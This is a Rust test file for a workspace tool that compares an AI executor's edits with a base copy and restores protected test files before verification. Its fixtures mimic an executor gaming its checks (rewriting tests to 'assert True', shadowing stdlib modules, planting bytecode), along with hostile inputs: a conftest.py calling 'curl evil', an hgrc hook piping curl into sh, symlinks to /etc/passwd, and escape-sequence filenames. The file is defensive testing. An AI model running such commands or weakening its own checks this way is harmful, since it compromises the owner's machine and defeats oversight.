//! `diff::changes` and `protect::restore` (issue #15 items 3–4).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use common::write;
use silas_workspace::copy::{self, CopyLimits};
use silas_workspace::diff::{self, ChangeKind, RefusalReason};
use silas_workspace::protect::{self, Protected};

const TEST_X: &[u8] = b"from app import add\n\ndef test_add():\n    assert add(2, 2) == 4\n";

/// A workspace and two copies of it: the untouched base and the executor's.
fn setup(
    tmp: &Path,
) -> (
    std::path::PathBuf,
    silas_workspace::Snapshot,
    std::path::PathBuf,
    std::path::PathBuf,
) {
    let ws = tmp.join("ws");
    write(&ws, ".gitignore", b"__pycache__/\n");
    write(&ws, "src/app.py", b"def add(a, b):\n    return a - b\n");
    write(&ws, "old.py", b"one\ntwo\n");
    write(&ws, "tests/test_x.py", TEST_X);
    write(&ws, "pyproject.toml", b"[tool.pytest.ini_options]\n");
    let base = tmp.join("base");
    let snap = copy::take(&ws, &base, &CopyLimits::default()).unwrap();
    let result = tmp.join("result");
    copy::take(&ws, &result, &CopyLimits::default()).unwrap();
    (ws, snap, base, result)
}

#[test]
fn diff_counts_lines_and_flags_protected_edits() {
    let tmp = tempfile::tempdir().unwrap();
    let (_ws, snap, base, result) = setup(tmp.path());
    // The executor's work.
    write(
        &result,
        "src/app.py",
        b"def add(a, b):\n    return a + b\n\n# fixed\n",
    );
    write(&result, "new.py", b"a\nb\nc\n");
    fs::remove_file(result.join("old.py")).unwrap();
    write(
        &result,
        "tests/test_x.py",
        b"def test_add():\n    assert True\n",
    );
    write(&result, "logo.png", b"\x89PNG\0\0binary");
    write(
        &result,
        "__pycache__/app.cpython.pyc",
        b"\0ignored build output",
    );
    symlink("/etc/passwd", result.join("evil")).unwrap();
    // A name that would clear the owner's screen at the next `ls`.
    write(&result, "notes\u{1b}[2J\nx.txt", b"hi\n");
    write(&result, "dir\u{7}/inner.txt", b"hi\n");
    // One that reads as another name (`accexe.txt` → shown `acctxt.exe`).
    write(&result, "acc\u{202e}txt.exe", b"hi\n");
    symlink("src/app.py", result.join("alias")).unwrap();
    // A `.git` file makes vendor/ another repository (its config, its
    // hooks): refused on the card, not first at apply.
    write(&result, "vendor/.git", b"gitdir: ../evil\n");

    let protected = Protected::new(&[]).unwrap();
    let cs = diff::changes(&snap, &base, &result, &protected).unwrap();
    assert!(
        cs.refused
            .iter()
            .any(|r| r.path == "vendor/.git" && r.reason == RefusalReason::GitMetadata),
        "{:?}",
        cs.refused
    );
    for name in ["notes\u{1b}[2J\nx.txt", "dir\u{7}", "acc\u{202e}txt.exe"] {
        assert!(
            cs.refused
                .iter()
                .any(|r| r.path == name && r.reason == RefusalReason::ControlCharacter),
            "{name:?}: {:?}",
            cs.refused
        );
    }
    assert!(
        !cs.files
            .iter()
            .any(|f| f.path.chars().any(char::is_control))
    );
    let summary: Vec<(&str, ChangeKind, u64, u64, bool, bool)> = cs
        .files
        .iter()
        .map(|f| {
            (
                f.path.as_str(),
                f.kind,
                f.added_lines,
                f.removed_lines,
                f.binary,
                f.protected,
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            ("logo.png", ChangeKind::Added, 0, 0, true, false),
            ("new.py", ChangeKind::Added, 3, 0, false, false),
            ("old.py", ChangeKind::Deleted, 0, 2, false, false),
            ("src/app.py", ChangeKind::Modified, 3, 1, false, false),
            ("tests/test_x.py", ChangeKind::Modified, 1, 3, false, true),
        ]
    );
    assert_eq!((cs.total_added, cs.total_removed), (7, 6));
    assert_eq!(cs.protected_edits(), ["tests/test_x.py"]);
    let d = &cs.unified_diff;
    assert!(
        d.contains("diff --git a/src/app.py b/src/app.py\n--- a/src/app.py\n+++ b/src/app.py\n"),
        "{d}"
    );
    assert!(d.contains("-    return a - b\n+    return a + b\n"), "{d}");
    assert!(
        d.contains(
            "diff --git a/new.py b/new.py\nnew file mode 100644\n--- /dev/null\n+++ b/new.py\n"
        ),
        "{d}"
    );
    assert!(
        d.contains("deleted file mode 100644\n--- a/old.py\n+++ /dev/null\n"),
        "{d}"
    );
    assert!(d.contains("+    assert True\n"), "{d}");
    assert!(
        d.contains("Binary files /dev/null and b/logo.png differ"),
        "{d}"
    );
    assert!(!d.contains("__pycache__"));
    assert!(!cs.diff_truncated);
    // Links are reported, never applied; the one leaving the tree says so.
    let evil = cs.refused.iter().find(|r| r.path == "evil").unwrap();
    assert_eq!(
        evil.reason,
        RefusalReason::SymlinkOutside {
            target: "/etc/passwd".into()
        }
    );
    let alias = cs.refused.iter().find(|r| r.path == "alias").unwrap();
    assert!(matches!(alias.reason, RefusalReason::Symlink { .. }));
    assert!(
        !cs.files
            .iter()
            .any(|f| f.path == "evil" || f.path == "alias")
    );
    // Typed and persistable.
    let json = serde_json::to_string(&cs).unwrap();
    assert_eq!(serde_json::from_str::<diff::ChangeSet>(&json).unwrap(), cs);
}

#[test]
fn a_directory_swapped_for_an_outside_symlink_is_refused_not_deleted() {
    let tmp = tempfile::tempdir().unwrap();
    let (_ws, snap, base, result) = setup(tmp.path());
    fs::remove_dir_all(result.join("src")).unwrap();
    symlink("/etc", result.join("src")).unwrap();
    let cs = diff::changes(&snap, &base, &result, &Protected::new(&[]).unwrap()).unwrap();
    assert!(
        cs.files.iter().all(|f| f.path != "src/app.py"),
        "{:?}",
        cs.files
    );
    assert!(
        cs.refused
            .iter()
            .any(|r| r.path == "src/app.py" && r.reason == RefusalReason::TypeChanged)
    );
    assert!(cs.refused.iter().any(|r| r.path == "src"
        && r.reason
            == RefusalReason::SymlinkOutside {
                target: "/etc".into()
            }));
}

#[test]
fn the_unified_diff_is_bounded() {
    let tmp = tempfile::tempdir().unwrap();
    let (_ws, snap, base, result) = setup(tmp.path());
    let big: String = (0..30_000)
        .map(|i| format!("line number {i} of a big generated file\n"))
        .collect();
    write(&result, "big.txt", big.as_bytes());
    let cs = diff::changes(&snap, &base, &result, &Protected::new(&[]).unwrap()).unwrap();
    assert!(cs.diff_truncated);
    assert!(cs.unified_diff.len() <= diff::MAX_DIFF_BYTES + 100);
    assert!(
        cs.unified_diff
            .ends_with("[diff truncated: the full change is larger than 1 MiB]\n")
    );
    // Counts stay exact even when the text is cut.
    assert_eq!(cs.files[0].added_lines, 30_000);
}

#[test]
fn restore_undoes_an_assert_true_rewrite_before_the_checks() {
    let tmp = tempfile::tempdir().unwrap();
    let (_ws, snap, base, verify) = setup(tmp.path());
    let _ = snap;
    // The executor weakens the checks every way it can.
    write(
        &verify,
        "tests/test_x.py",
        b"def test_add():\n    assert True\n",
    );
    write(
        &verify,
        "conftest.py",
        b"import os; os.system('curl evil')\n",
    );
    fs::remove_file(verify.join("pyproject.toml")).unwrap();
    write(&verify, "src/app.py", b"def add(a, b):\n    return 0\n");
    let protected = Protected::new(&[]).unwrap();
    // The weakened test passes on the executor's broken code...
    let weakened = run_test_x(&verify);
    assert!(weakened.unwrap_or(true), "assert True should pass");
    let restored = protect::restore(&base, &verify, &protected).unwrap();
    assert_eq!(
        restored,
        ["conftest.py", "pyproject.toml", "tests/test_x.py"]
    );
    // ...the restored original runs on the same code and fails.
    if weakened.is_some() {
        assert_eq!(run_test_x(&verify), Some(false));
    } else {
        println!("NOTE: python3 not installed; the restored test was not run");
    }
    assert_eq!(fs::read(verify.join("tests/test_x.py")).unwrap(), TEST_X);
    assert!(!verify.join("conftest.py").exists());
    assert_eq!(
        fs::read(verify.join("pyproject.toml")).unwrap(),
        b"[tool.pytest.ini_options]\n"
    );
    // Non-protected work is left for the checks to judge.
    assert_eq!(
        fs::read(verify.join("src/app.py")).unwrap(),
        b"def add(a, b):\n    return 0\n"
    );
    // Idempotent: nothing left to restore.
    assert!(
        protect::restore(&base, &verify, &protected)
            .unwrap()
            .is_empty()
    );
}

#[test]
fn restore_never_writes_through_a_planted_symlink() {
    let tmp = tempfile::tempdir().unwrap();
    let (_ws, _snap, base, verify) = setup(tmp.path());
    let elsewhere = tmp.path().join("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    fs::remove_dir_all(verify.join("tests")).unwrap();
    symlink(&elsewhere, verify.join("tests")).unwrap();
    let protected = Protected::new(&["src/*.py".to_owned()]).unwrap();
    let restored = protect::restore(&base, &verify, &protected).unwrap();
    assert!(restored.contains(&"tests/test_x.py".to_owned()));
    assert!(
        fs::read_dir(&elsewhere).unwrap().next().is_none(),
        "wrote through the link"
    );
    assert!(fs::symlink_metadata(verify.join("tests")).unwrap().is_dir());
    assert_eq!(fs::read(verify.join("tests/test_x.py")).unwrap(), TEST_X);
}

/// Runs `tests/test_x.py::test_add` with the copy's `src/` on the path:
/// `Some(passed)`, or `None` when python3 is not installed.
fn run_test_x(root: &Path) -> Option<bool> {
    let python = ["/usr/bin/python3", "/usr/local/bin/python3"]
        .iter()
        .find(|p| Path::new(p).is_file())?;
    let status = std::process::Command::new(python)
        .current_dir(root)
        .env("PYTHONPATH", "src:tests")
        .args(["-B", "-c", "import test_x; test_x.test_add()"])
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    Some(status.success())
}

/// What a check imports or runs, planted or rewritten by the executor: a new
/// stdlib-named module wherever the import path may reach (the root, a
/// `PYTHONPATH=src` directory, a `cd sub` check's directory — a package
/// directory's new `__init__.py` does not hide `src/json.py`), the check's
/// `python -m` module, a shadowing package with its `__main__.py`, and the
/// script a check runs. All go for verification; new modules inside the
/// owner's own package and the work's edits to the owner's code stay.
#[test]
fn restore_removes_what_would_shadow_a_check_and_keeps_the_work() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    write(
        &ws,
        "tests/test_a.py",
        b"def test_a():\n    assert 1 == 2\n",
    );
    write(
        &ws,
        "run_tests.sh",
        b"python3 -m unittest discover -s tests\n",
    );
    write(&ws, "myapp/__init__.py", b"");
    write(&ws, "myapp/core.py", b"x = 1\n");
    write(&ws, "src/lib.py", b"y = 2\n");
    let base = tmp.path().join("base");
    let snap = copy::take(&ws, &base, &CopyLimits::default()).unwrap();
    let verify = tmp.path().join("verify");
    copy::take(&ws, &verify, &CopyLimits::default()).unwrap();
    for (rel, body) in [
        ("argparse.py", &b"print('OK')\n"[..]),
        ("src/__init__.py", b""),
        ("src/json.py", b"print('OK')\n"),
        ("sub/unittest/__init__.py", b""),
        ("sub/unittest/__main__.py", b"print('OK')\n"),
        ("mytool.py", b"print('OK')\n"),
        ("run_tests.sh", b"echo OK\n"),
        ("myapp/types.py", b"T = int\n"),
        ("myapp/core.py", b"x = 2\n"),
        ("notes/unittest.txt", b"not a module\n"),
    ] {
        write(&verify, rel, body);
    }
    let protected = Protected::for_checks_in(
        &base,
        &[],
        ["bash run_tests.sh", "cd sub && python3 -m mytool -q"],
    )
    .unwrap();
    let cs = diff::changes(&snap, &base, &verify, &protected).unwrap();
    let flagged: Vec<&str> = cs
        .files
        .iter()
        .filter(|f| f.protected)
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(
        flagged,
        [
            "argparse.py",
            "mytool.py",
            "run_tests.sh",
            "src/json.py",
            "sub/unittest/__init__.py"
        ]
    );
    let restored = protect::restore(&base, &verify, &protected).unwrap();
    assert_eq!(
        restored,
        [
            "argparse.py",
            "mytool.py",
            "run_tests.sh",
            "src/json.py",
            "sub/unittest/__init__.py",
            "sub/unittest/__main__.py",
        ]
    );
    assert_eq!(
        fs::read(verify.join("run_tests.sh")).unwrap(),
        b"python3 -m unittest discover -s tests\n"
    );
    for kept in [
        "myapp/types.py",
        "myapp/core.py",
        "src/__init__.py",
        "notes/unittest.txt",
    ] {
        assert!(verify.join(kept).exists(), "{kept}");
    }
    assert_eq!(fs::read(verify.join("myapp/core.py")).unwrap(), b"x = 2\n");
}

/// Bytecode (Python may run it in place of the reviewed source) and other
/// version-control systems' metadata (hooks that would run at the owner's
/// next `hg` command) are reported on the card and never applied; a file
/// the executor deleted there is not deleted either.
#[test]
fn bytecode_and_vcs_metadata_are_never_applied() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    write(&ws, "calc/add.py", b"def add(a, b):\n    return a - b\n");
    write(&ws, ".hg/hgrc", b"[ui]\n");
    write(&ws, ".svn/entries", b"12\n");
    let base = tmp.path().join("base");
    let snap = copy::take(&ws, &base, &CopyLimits::default()).unwrap();
    let result = tmp.path().join("result");
    copy::take(&ws, &result, &CopyLimits::default()).unwrap();
    write(
        &result,
        "calc/__pycache__/add.cpython-311.pyc",
        b"\x6f\x0d\x0d\x0a",
    );
    write(&result, "legacy.pyc", b"\x6f\x0d\x0d\x0a");
    write(&result, "calc.cpython-311-x86_64-linux-gnu.so", b"\x7fELF");
    write(
        &result,
        ".hg/hgrc",
        b"[hooks]\npre-commit = sh -c 'curl x | sh'\n",
    );
    write(&result, ".bzr/branch.conf", b"x\n");
    fs::remove_file(result.join(".svn/entries")).unwrap();
    write(&result, "calc/new.py", b"x = 1\n");

    let cs = diff::changes(&snap, &base, &result, &Protected::new(&[]).unwrap()).unwrap();
    let refused = |path: &str, reason: RefusalReason| {
        cs.refused
            .iter()
            .any(|r| r.path == path && r.reason == reason)
    };
    assert!(refused(
        "calc/__pycache__/add.cpython-311.pyc",
        RefusalReason::CompiledPython
    ));
    assert!(refused("legacy.pyc", RefusalReason::CompiledPython));
    // An extension module: Python imports it in place of `calc.py`.
    assert!(refused(
        "calc.cpython-311-x86_64-linux-gnu.so",
        RefusalReason::CompiledPython
    ));
    assert!(refused(".hg/hgrc", RefusalReason::VcsMetadata));
    assert!(refused(".bzr/branch.conf", RefusalReason::VcsMetadata));
    assert!(
        refused(".svn/entries", RefusalReason::VcsMetadata),
        "{:?}",
        cs.refused
    );
    let applied: Vec<&str> = cs.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(applied, ["calc/new.py"]);
}

/// The verification copy loses the bytecode the work added or changed, and
/// keeps the untouched copy's own.
#[test]
fn added_bytecode_is_dropped_for_the_checks() {
    let tmp = tempfile::tempdir().unwrap();
    let (_ws, _snap, base, result) = setup(tmp.path());
    write(&base, "src/__pycache__/kept.pyc", b"owner's");
    write(&result, "src/__pycache__/kept.pyc", b"owner's");
    write(&result, "src/__pycache__/app.cpython-311.pyc", b"planted");
    write(&result, "app.pyc", b"planted");
    write(
        &result,
        "src/app.cpython-311-x86_64-linux-gnu.so",
        b"\x7fELF planted",
    );
    let dropped = protect::drop_compiled(&base, &result).unwrap();
    assert_eq!(
        dropped,
        [
            "app.pyc",
            "src/__pycache__/app.cpython-311.pyc",
            "src/app.cpython-311-x86_64-linux-gnu.so"
        ]
    );
    assert!(result.join("src/__pycache__/kept.pyc").exists());
    assert!(!result.join("app.pyc").exists());

    // In one walk with the restore: bytecode the restore already removed
    // (it lies under the protected `tests/`) is not removed twice.
    write(
        &result,
        "tests/__pycache__/test_x.cpython-311.pyc",
        b"planted",
    );
    write(&result, "lib.pyc", b"planted");
    let protected = Protected::for_checks_in(&base, &[], ["python3 -m pytest -q"]).unwrap();
    let touched = protect::prepare_for_checks(&base, &result, Some(&protected)).unwrap();
    assert_eq!(
        touched,
        ["lib.pyc", "tests/__pycache__/test_x.cpython-311.pyc"]
    );
    assert!(
        !result
            .join("tests/__pycache__")
            .join("test_x.cpython-311.pyc")
            .exists()
    );
    // Where the plan may edit the checks' files, the bytecode still goes.
    write(
        &result,
        "tests/__pycache__/test_y.cpython-311.pyc",
        b"planted",
    );
    let touched = protect::prepare_for_checks(&base, &result, None).unwrap();
    assert_eq!(touched, ["tests/__pycache__/test_y.cpython-311.pyc"]);
}

/// What a protected check script sources, followed through what that
/// sources, is protected; paths built at run time are not followed.
#[test]
fn what_a_check_script_sources_is_protected() {
    let tmp = tempfile::tempdir().unwrap();
    let base = tmp.path();
    write(
        base,
        "ci/check.sh",
        b"#!/bin/sh\n. ci/lib.sh # helpers\nset -e; source \"./ci/env.sh\"\n. $DIR/x.sh\n. /etc/profile\n",
    );
    write(base, "ci/lib.sh", b"true\n");
    write(base, "ci/env.sh", b"[ -f x ] && . ci/deep.sh\n");
    write(base, "ci/deep.sh", b"true\n");
    let p = Protected::for_checks_in(base, &[], ["bash ci/check.sh"]).unwrap();
    for yes in [
        "ci/check.sh",
        "ci/lib.sh",
        "ci/env.sh",
        "ci/deep.sh",
        ".pytest.ini",
        "pytest.toml",
    ] {
        assert!(p.is_protected(yes), "{yes}");
    }
    assert!(!p.is_protected("x.sh"));
}
